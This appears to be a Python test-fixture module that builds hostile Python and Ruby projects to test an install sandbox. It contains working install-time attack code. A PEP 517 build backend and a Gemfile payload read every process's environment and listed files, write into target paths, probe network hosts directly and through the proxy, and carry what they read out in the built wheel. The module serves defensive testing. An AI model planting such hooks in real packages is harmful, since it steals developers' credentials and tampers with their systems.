"""Attackers' repositories for the install step: a Python project whose local package has an
in-tree PEP 517 backend, and a Ruby project whose Gemfile runs code, both doing at install
time what a hostile repository would (written for these tests, never copied from a project).

The attack reads every process environment and the files it is told of, tries to write into
the places it is told of, connects to the host addresses it is told of (directly and through
the install's proxy) and prints what it got as ``leak:<rot13>`` (a form no redaction knows,
so that a test sees what was really read), plus ``attack ran``. The Python attack also carries
its report out in the package it builds (``evilpkg/report.txt``: an installer hides a
successful backend's output).
"""

from __future__ import annotations

import codecs
import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from tests.envs_projects import py_words, ruby_money


@dataclass
class Targets:
    """What the attack goes after."""

    read: list[str] = field(default_factory=list)
    write: list[str] = field(default_factory=list)
    connect: list[tuple[str, int]] = field(default_factory=list)


_PY_ATTACK = """
import codecs, glob, json, os, socket

TARGETS = json.loads(TARGETS_JSON)
REPORT = []


def print(*words):
    REPORT.append(" ".join(map(str, words)))
    __builtins__["print"](*words) if isinstance(__builtins__, dict) else __builtins__.print(*words)


def _attack():
    found = []
    for path in sorted(glob.glob("/proc/[0-9]*/environ")) + TARGETS["read"]:
        try:
            with open(path, "rb") as fh:
                found.append(fh.read().decode("latin-1"))
        except OSError as exc:
            print("read refused", path, type(exc).__name__)
    leak = codecs.encode(" | ".join(found), "rot13")
    print("leak:" + leak.replace("\\n", " ").replace("\\0", " "))
    for path in TARGETS["write"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as fh:
                fh.write("pwned")
            print("wrote", path)
        except OSError as exc:
            print("write refused", path, type(exc).__name__)
    for host, port in TARGETS["connect"]:
        try:
            socket.create_connection((host, port), timeout=3).close()
            print("connected", host, port)
        except OSError as exc:
            print("connect refused", host, port, type(exc).__name__)
        proxy = os.environ.get("HTTPS_PROXY", "")
        if proxy.startswith("http://"):
            phost, _, pport = proxy[7:].rstrip("/").rpartition(":")
            try:
                s = socket.create_connection((phost, int(pport)), timeout=10)
                s.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n".encode())
                print("proxy answered", host, port, s.recv(200).split(b"\\r\\n")[0].decode())
                s.close()
            except OSError as exc:
                print("proxy refused", host, port, type(exc).__name__)
    print("attack ran")


_attack()
"""

_BACKEND_WHEEL = """

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import base64, hashlib, zipfile
    name = "evilpkg-0.1-py3-none-any.whl"
    files = {
        "evilpkg/__init__.py": b"",
        # What the attack got, carried out in the package it built (uv hides a backend's output).
        "evilpkg/report.txt": "\\n".join(REPORT).encode(),
        "evilpkg-0.1.dist-info/METADATA": b"Metadata-Version: 2.1\\nName: evilpkg\\n"
        b"Version: 0.1\\n",
        "evilpkg-0.1.dist-info/WHEEL": b"Wheel-Version: 1.0\\nGenerator: evil\\n"
        b"Root-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append("evilpkg-0.1.dist-info/RECORD,,")
    files["evilpkg-0.1.dist-info/RECORD"] = ("\\n".join(record) + "\\n").encode()
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as zf:
        for path, data in files.items():
            zf.writestr(path, data)
    return name
"""


def python_attacker(tmp: Path, targets: Targets) -> Path:
    """py_words with ``./evilpkg`` in its requirements: a local package whose build backend
    (``backend-path = ["."]``) attacks when the installer imports it."""
    project = py_words(tmp)
    (project / "uv.lock").unlink()
    (project / "requirements.txt").write_text("inflection\n./evilpkg\n")
    pkg = project / "evilpkg"
    pkg.mkdir()
    (pkg / "pyproject.toml").write_text(
        textwrap.dedent(
            """\
            [build-system]
            requires = []
            build-backend = "evil_backend"
            backend-path = ["."]

            [project]
            name = "evilpkg"
            version = "0.1"
            """
        )
    )
    attack = _PY_ATTACK.replace("TARGETS_JSON", repr(json.dumps(targets.__dict__)))
    (pkg / "evil_backend.py").write_text(attack + _BACKEND_WHEEL)
    return project


_RUBY_ATTACK = """
require "json"
targets = JSON.parse(TARGETS_JSON)
found = []
(Dir.glob("/proc/[0-9]*/environ").sort + targets["read"]).each do |path|
  begin
    found << File.binread(path)
  rescue SystemCallError => e
    puts "read refused #{path} #{e.class}"
  end
end
puts "leak:" + found.join(" | ").tr("A-Za-z", "N-ZA-Mn-za-m").tr("\\n\\0", "  ")
targets["write"].each do |path|
  begin
    require "fileutils"
    FileUtils.mkdir_p(File.dirname(path))
    File.write(path, "pwned")
    puts "wrote #{path}"
  rescue SystemCallError => e
    puts "write refused #{path} #{e.class}"
  end
end
require "socket"
targets["connect"].each do |host, port|
  begin
    Socket.tcp(host, port, connect_timeout: 3).close
    puts "connected #{host} #{port}"
  rescue SystemCallError, SocketError => e
    puts "connect refused #{host} #{port} #{e.class}"
  end
end
puts "attack ran"
"""


def ruby_attacker(tmp: Path, targets: Targets) -> Path:
    """ruby_money whose Gemfile attacks when Bundler evaluates it."""
    project = ruby_money(tmp)
    gemfile = project / "Gemfile"
    attack = _RUBY_ATTACK.replace("TARGETS_JSON", json.dumps(json.dumps(targets.__dict__)))
    gemfile.write_text(attack + "\n" + gemfile.read_text())
    return project


def rot13(text: str) -> str:
    """What the attack prints of `text` when it read it."""
    return codecs.encode(text, "rot13")


def cleanup(paths: list[str]) -> None:
    """Remove what an attack may have written (a failed test leaves nothing behind)."""
    for path in paths:
        Path(path).unlink(missing_ok=True)
